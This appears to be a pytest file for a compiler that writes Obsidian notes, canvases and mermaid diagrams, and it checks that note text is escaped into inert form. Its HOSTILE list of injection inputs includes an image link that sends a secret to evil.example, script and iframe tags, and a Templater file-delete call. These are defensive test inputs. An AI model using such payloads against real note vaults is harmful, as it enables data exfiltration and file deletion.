from __future__ import annotations

import json
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from compiler.packages import lowered
from compiler.units import Notes, kettle, poliv

from vaultc.compiler.artifacts.diagrams import bare, label
from vaultc.compiler.artifacts.markdown import code, escape, quotation
from vaultc.compiler.unit import Contradiction, Question, Unit
from vaultc.core.source import Source, VaultPath
from vaultc.syntax.parse import parse_note

if TYPE_CHECKING:
    from collections.abc import Callable

HOSTILE = [
    "[[Nowhere]]",
    "![x](http://evil.example/?q=secret)",
    "<iframe src=x></iframe>",
    "<script>alert(1)</script>",
    "> [!danger] run",
    "a ^block-id",
    "%%hidden%%",
    "#tag and $math$ and `code`",
    "key:: value",
    "<% tp.file.delete() %>",
    "- [ ] task",
    "[link](obsidian://open?vault=x)",
    "==mark== **bold** _it_ ~~no~~ \\",
    "# heading\nsecond line",
]


@pytest.mark.parametrize("make", [kettle, poliv])
def test_every_wikilink_of_a_generated_note_resolves(make: Callable[[], tuple[Unit, Notes]]) -> None:
    unit, notes = make()

    for artifact in lowered(unit, notes).artifacts[:2]:
        note = parse_note(Source(artifact.path, artifact.text))[0]
        assert note.links
        for link in note.links:
            found = notes.resolve(link, artifact.path)
            assert getattr(found, "missing", "unresolved") is None, link


@pytest.mark.parametrize("make", [kettle, poliv])
def test_every_section_has_a_segment_that_leads_to_a_note(make: Callable[[], tuple[Unit, Notes]]) -> None:
    unit, notes = make()

    for artifact in lowered(unit, notes).artifacts[:2]:
        source = Source(artifact.path, artifact.text)
        for heading in parse_note(source)[0].headings:
            line = source.line_col(heading.span.start)[0]
            own = [item for item in artifact.segments if item.start_line <= line <= item.end_line]
            assert own, heading.text
            assert all(item.origins or (item.derived and item.derived.leans_on) for item in own)


def test_a_russian_idea_is_written_in_russian() -> None:
    unit, notes = poliv()

    text = lowered(unit, notes).artifacts[0].text

    assert "## Требования" in text
    assert "## Прослеживаемость" in text
    assert "## Requirements" not in text


@pytest.mark.parametrize("text", HOSTILE)
def test_words_of_notes_stay_words(text: str) -> None:
    body = f"- {escape(text)}\n"

    note = parse_note(Source(VaultPath("x.md"), body))[0]

    assert note.links == ()
    assert note.tags == ()
    assert note.fields == ()
    assert note.callouts == ()
    assert all(item.task is None for item in note.items)
    assert not any(block.id for block in note.blocks)
    assert not any(mark.kind.value in ("comment", "html_comment", "math") for mark in note.marks)


@pytest.mark.parametrize("text", [*HOSTILE, "`", "``a`b``", "a ` b", "  x  "])
def test_a_quotation_is_inert_and_verbatim(text: str) -> None:
    shown = quotation(text)

    if shown:
        note = parse_note(Source(VaultPath("x.md"), f"- {shown}\n"))[0]
        first = next(line for line in text.splitlines() if line.strip()).strip()
        assert first in shown
        assert note.links == ()
        assert note.tags == ()


def test_what_plugins_would_run_is_not_quoted() -> None:
    assert quotation("= this.file.name") == ""
    assert quotation("$= dv.pages()") == ""
    assert quotation("<% tp.system.prompt() %>") == ""


def test_code_holds_any_backticks() -> None:
    assert code("a`b") == "``a`b``"
    assert code("``") == "``` `` ```"


def test_hostile_elements_leave_the_note_inert() -> None:
    unit, notes = kettle()
    quote = unit.summary_origins[0]
    questions = tuple(Question(f"Q-0c{number:04x}", text, 1, (quote,)) for number, text in enumerate(HOSTILE))
    clash = Contradiction("V-0c0001", HOSTILE[1], quote, quote)
    unit = replace(unit, questions=questions[:5], contradictions=(clash,), summary=" ".join(HOSTILE))

    text = lowered(unit, notes).artifacts[0].text

    note = parse_note(Source(VaultPath("x.md"), text))[0]
    assert {link.target for link in note.links} == {"Ideas/Kettle timer"}
    assert [item.kind for item in note.callouts] == ["warning"]
    assert note.tags == ()


def test_few_questions_are_asked() -> None:
    unit, notes = kettle()
    quote = unit.summary_origins[0]
    many = tuple(Question(f"Q-0c{number:04x}", f"Question {number}?", 9 - number, (quote,)) for number in range(9))

    text = lowered(replace(unit, questions=many), notes).artifacts[0].text

    assert "5. **Q-0c0004**" in text
    assert "6. **Q" not in text


def test_the_canvas_is_json_canvas_with_stable_ids() -> None:
    unit, notes = kettle()
    done = lowered(unit, notes)

    canvas = json.loads(done.artifacts[2].text)

    ids = [node["id"] for node in canvas["nodes"]]
    assert ids == ["idea", *sorted(set(ids) - {"idea"}, key=ids.index)]
    assert {item.id for item in done.components} == set(ids) - {"idea"}
    assert all(edge["fromNode"] in ids and edge["toNode"] in ids for edge in canvas["edges"])
    boxes = {(node["x"], node["y"]) for node in canvas["nodes"]}
    assert len(boxes) == len(canvas["nodes"])


@pytest.mark.parametrize("text", ['a "b" [c] {d}', "`x` <b> #1; --> y", "Влажность «ниже» 30 %: да", "\n\n", "x" * 500])
def test_labels_of_diagrams_hold_nothing_that_the_parser_reads(text: str) -> None:
    assert not set(label(text)) & set('"<>`\n')
    assert not set(bare(text)) & set('{}[]();:#<>"`%\n')
    assert bare(text)


def test_mermaid_blocks_are_closed() -> None:
    unit, notes = poliv()

    text = lowered(unit, notes).artifacts[0].text

    assert text.count("```mermaid") == 4
    assert text.count("```") == 8
